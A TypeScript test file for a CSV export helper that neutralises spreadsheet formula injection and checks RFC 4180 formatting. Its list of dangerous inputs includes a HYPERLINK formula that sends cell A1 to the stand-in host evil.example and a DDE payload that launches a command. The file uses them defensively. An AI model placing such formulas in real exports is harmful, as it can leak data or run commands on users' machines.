import { parse } from 'csv-parse/sync';
import { BYTE_ORDER_MARK, csvLine, defuse, undefuse } from '@/lib/domain/csv';

/** What spreadsheets were seen to run, and what only looks like it. */
const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+cmd|calc',
  '-2+3+cmd|calc',
  '-1',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
];
const HARMLESS = [
  'a = b',
  'because it says so',
  '',
  ' =1+1',
  '\n=1+1',
  '1-2',
  'Ann, “the lab”\nand “more”',
  '杭州 👩‍🔬',
  '"',
];
const QUOTED = ["'=1+1", "'", "''", "'tis so"];

test.each(DANGEROUS)('%j gets an apostrophe', (text) => {
  expect(defuse(text)).toBe(`'${text}`);
});

test.each(HARMLESS)('%j stays as it is', (text) => {
  expect(defuse(text)).toBe(text);
});

test.each([...DANGEROUS, ...HARMLESS, ...QUOTED])('%j comes back when the first apostrophe is taken away', (text) => {
  expect(undefuse(defuse(text))).toBe(text);
});

test('what is written can be read by another reader, cell by cell', () => {
  const texts = [...DANGEROUS, ...HARMLESS, ...QUOTED];
  const file =
    BYTE_ORDER_MARK + csvLine(['text', 'number', 'none']) + texts.map((text) => csvLine([text, -1.5, null])).join('');
  const rows: string[][] = parse(file, { bom: true, record_delimiter: '\r\n' });
  expect(rows[0]).toEqual(['text', 'number', 'none']);
  // A number is one: nothing stands before it.
  expect(rows.slice(1)).toEqual(texts.map((text) => [defuse(text), '-1.5', '']));
});

test('lines end as RFC 4180 says, and cells are in quotes only where they have to be', () => {
  expect(csvLine(['a', 'b,c', 'd"e', 1, null])).toBe('a,"b,c","d""e",1,\r\n');
});
